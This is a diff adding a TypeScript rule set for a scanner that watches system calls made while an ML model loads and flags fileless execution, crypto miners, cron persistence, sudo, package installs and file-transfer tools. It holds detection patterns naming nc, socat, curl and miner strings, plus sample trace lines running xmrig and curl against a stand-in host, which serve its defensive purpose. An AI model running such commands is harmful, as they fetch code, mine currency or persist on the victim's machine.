@@ -1,0 +1,215 @@
+import type { Act, StartAct } from '../acts.js';
+import { commandLine } from '../args.js';
+import { nameOf } from '../places.js';
+import type { Rule } from './rule.js';
+
+const SHELLS = /^(?:sh|bash|dash|zsh|ksh|mksh|ash|fish|csh|tcsh|busybox|cmd\.exe|powershell|pwsh)$/;
+const INTERPRETERS =
+  /^(?:python|pypy|perl|ruby|node|nodejs|php|lua|luajit|tclsh|Rscript|julia|java|deno|bun|osascript|gdb|awk|gawk|mawk)[\d.]*$/;
+const RAISERS = /^(?:sudo|su|doas|pkexec|runuser|newgrp|sg|setpriv|capsh)$/;
+const INSTALLERS =
+  /^(?:pip[\d.]*|pipx|uv|conda|mamba|apt|apt-get|dpkg|npm|npx|yum|dnf|apk|gem|cargo|snap|flatpak|brew)$/;
+const FETCHERS = /^(?:curl|wget|aria2c|ftp|tftp|scp|sftp|rsync|nc|ncat|netcat|socat|telnet|ssh)$/;
+const BROWSERS =
+  /^(?:xdg-open|www-browser|sensible-browser|x-www-browser|gnome-open|gio|firefox|chromium|google-chrome|open|start)$/;
+const SCHEDULERS = /^(?:crontab|at|batch|systemctl|systemd-run|launchctl|schtasks)$/;
+const MINING = /xmrig|stratum\+(?:tcp|ssl)|\bminerd?\b|cpuminer|nicehash|minexmr|ethminer|--donate-level|randomx/i;
+
+const command = (start: StartAct): string => commandLine(start.argv.length > 0 ? start.argv : [start.path]);
+
+/** The command, if `act` starts a program that `applies` says yes to. */
+const started =
+  (applies: (start: StartAct, name: string) => boolean) =>
+  (act: Act): string | undefined =>
+    act.act === 'start' && applies(act, nameOf(act.path)) ? command(act) : undefined;
+
+/** Any word of the command line: `sh -c "curl … | sh"` counts for curl. */
+const anyWord = (start: StartAct, pattern: RegExp): boolean =>
+  start.argv
+    .join(' ')
+    .split(/[\s;|&()`$"']+/)
+    .some((word) => pattern.test(nameOf(word)));
+
+const ADVICE =
+  'Do not load this model. Loading data never needs another program; ask who made it for a copy in a format without code, such as SafeTensors.';
+
+export const EXECUTION: readonly Rule[] = [
+  {
+    id: 'DYN-EXEC-FILELESS',
+    severity: 'critical',
+    category: 'execution',
+    attack: 'T1620',
+    title: 'Runs a program that is on no disk',
+    meaning: 'A program that lives only in memory leaves nothing for a virus scanner to find.',
+    advice: ADVICE,
+    example: ['100 execve("/proc/self/fd/5", ["x"], 0x7ffc0000 /* 9 vars */) = 0'],
+    subject: started((start) => start.fileless),
+  },
+  {
+    id: 'DYN-EXEC-MINER',
+    severity: 'critical',
+    category: 'resource-abuse',
+    attack: 'T1496.001',
+    title: 'Starts a crypto-currency miner',
+    meaning: 'It would use this computer to earn money for somebody else.',
+    advice: ADVICE,
+    example: [
+      '100 execve("/bin/sh", ["sh", "-c", "xmrig -o stratum+tcp://192.0.2.9:3333"], 0x7ffc0000 /* 9 vars */) = 0',
+    ],
+    subject: started((start) => MINING.test(start.argv.join(' ')) || MINING.test(start.path)),
+  },
+  {
+    id: 'DYN-EXEC-DROPPED',
+    severity: 'critical',
+    category: 'execution',
+    attack: 'T1105',
+    title: 'Runs a program that did not come with the system',
+    meaning: 'The program was brought along or written just before: what it does is up to whoever made the model.',
+    advice: ADVICE,
+    example: ['100 execve("/tmp/stage2", ["/tmp/stage2"], 0x7ffc0000 /* 9 vars */) = -1 EACCES (Permission denied)'],
+    subject: started((start) => ['scratch', 'home', 'model', 'model-folder', 'kernel'].includes(start.place)),
+  },
+  {
+    id: 'DYN-EXEC-SCHEDULE',
+    severity: 'critical',
+    category: 'persistence',
+    attack: 'T1053.003',
+    title: 'Schedules a program to run later',
+    meaning: 'It would run again after the model is closed, and after the computer restarts.',
+    advice: ADVICE,
+    example: [
+      '100 execve("/usr/bin/crontab", ["crontab", "/tmp/c"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
+    ],
+    subject: started(
+      (start, name) => SCHEDULERS.test(name) || (SHELLS.test(name) && anyWord(start, /^crontab$|^systemctl$/)),
+    ),
+  },
+  {
+    id: 'DYN-EXEC-PRIVILEGE',
+    severity: 'high',
+    category: 'escape',
+    attack: 'T1548.003',
+    title: 'Asks for administrator rights',
+    meaning: 'With them it could change anything on the computer.',
+    advice: ADVICE,
+    example: [
+      '100 execve("/usr/bin/sudo", ["sudo", "id"], 0x7ffc0000 /* 9 vars */) = -1 EPERM (Operation not permitted)',
+    ],
+    subject: started(
+      (start, name) => RAISERS.test(name) || (SHELLS.test(name) && anyWord(start, /^(?:sudo|doas|pkexec)$/)),
+    ),
+  },
+  {
+    id: 'DYN-EXEC-INSTALL',
+    severity: 'high',
+    category: 'execution',
+    attack: 'T1195.001',
+    title: 'Installs software',
+    meaning: 'Opening a model must not install anything: a package can run any code while it is installed.',
+    advice: ADVICE,
+    example: [
+      '100 execve("/usr/bin/pip", ["pip", "install", "example-package"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
+    ],
+    subject: started(
+      (start, name) =>
+        INSTALLERS.test(name) ||
+        (INTERPRETERS.test(name) && /^-m\0(?:pip|ensurepip)\0/.test(`${start.argv.slice(1).join('\0')}\0`)),
+    ),
+  },
+  {
+    id: 'DYN-EXEC-FETCH',
+    severity: 'critical',
+    category: 'execution',
+    attack: 'T1105',
+    title: 'Starts a program that transfers files',
+    meaning: 'Such a program brings in more code, or carries data out.',
+    advice: ADVICE,
+    example: [
+      '100 execve("/usr/bin/curl", ["curl", "-s", "http://192.0.2.9/x"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
+    ],
+    subject: started((start, name) => FETCHERS.test(name) || (SHELLS.test(name) && anyWord(start, FETCHERS))),
+  },
+  {
+    id: 'DYN-EXEC-BROWSER',
+    severity: 'medium',
+    category: 'execution',
+    attack: 'T1204.001',
+    title: 'Opens a web page or another document',
+    meaning: 'The page is chosen by the model, and opens in the browser of whoever loads it.',
+    advice: 'Do not load this model unless you know why it opens a page.',
+    example: [
+      '100 execve("/usr/bin/xdg-open", ["xdg-open", "http://192.0.2.9/"], 0x7ffc0000 /* 9 vars */) = -1 ENOENT (No such file or directory)',
+    ],
+    subject: started((_, name) => BROWSERS.test(name)),
+  },
+  {
+    id: 'DYN-EXEC-SHELL',
+    severity: 'high',
+    category: 'execution',
+    attack: 'T1059.004',
+    title: 'Runs a shell command',
+    meaning: 'A model is data: opening one never needs a shell, and a shell can do anything its user can.',
+    advice: ADVICE,
+    example: ['100 execve("/bin/sh", ["sh", "-c", "id"], 0x7ffc0000 /* 9 vars */) = 0'],
+    subject: started((start, name) => SHELLS.test(name) && !isRetold(start)),
+  },
+  {
+    id: 'DYN-EXEC-INTERPRETER',
+    severity: 'high',
+    category: 'execution',
+    attack: 'T1059.006',
+    title: 'Starts another program interpreter',
+    meaning: 'It runs code that is not part of the model, out of sight of tools that only read the model.',
+    advice: ADVICE,
+    example: ['100 execve("/usr/bin/perl", ["perl", "-e", "print 1"], 0x7ffc0000 /* 9 vars */) = 0'],
+    subject: started((_, name) => INTERPRETERS.test(name)),
+  },
+  {
+    id: 'DYN-EXEC-PROGRAM',
+    severity: 'high',
+    category: 'execution',
+    attack: 'T1204.002',
+    title: 'Starts another program',
+    meaning: 'Loading this kind of model starts no program.',
+    advice: ADVICE,
+    example: ['100 execve("/usr/bin/id", ["id"], 0x7ffc0000 /* 9 vars */) = 0'],
+    subject: started((start) => !isRetold(start)),
+  },
+  {
+    id: 'DYN-EXEC-LIBRARY',
+    severity: 'high',
+    category: 'execution',
+    attack: 'T1129',
+    title: 'Loads machine code that did not come with the system',
+    meaning: 'A native library runs its own code as soon as it is loaded.',
+    advice: ADVICE,
+    example: ['100 openat(AT_FDCWD, "/tmp/x.so", O_RDONLY|O_CLOEXEC) = 5</tmp/x.so>'],
+    subject: (act) =>
+      act.act === 'read' && !act.probe && isForeignPlace(act.place) && /\.so(?:\.[\d.]+)?$/.test(act.path)
+        ? act.path
+        : undefined,
+  },
+  {
+    id: 'DYN-EXEC-SIBLING',
+    severity: 'high',
+    category: 'execution',
+    attack: 'T1574',
+    title: 'Runs Python code that lies beside the model',
+    meaning: 'The harmful part can hide in a file that nobody thinks of as part of the model.',
+    advice: 'Look at the Python files next to the model before loading it, or load it in a folder of its own.',
+    example: ['100 openat(AT_FDCWD, "/model/helper.py", O_RDONLY|O_CLOEXEC) = 5</model/helper.py>'],
+    subject: (act) =>
+      act.act === 'read' && !act.probe && act.place === 'model-folder' && /\.(?:py|pyc|pth)$/.test(act.path)
+        ? act.path
+        : undefined,
+  },
+];
+
+/** Part of a command that is told already: `id` in `sh -c id`. */
+function isRetold(start: StartAct): boolean {
+  return start.withinStart;
+}
+
+function isForeignPlace(place: string): boolean {
+  return ['scratch', 'home', 'model', 'model-folder'].includes(place);
+}
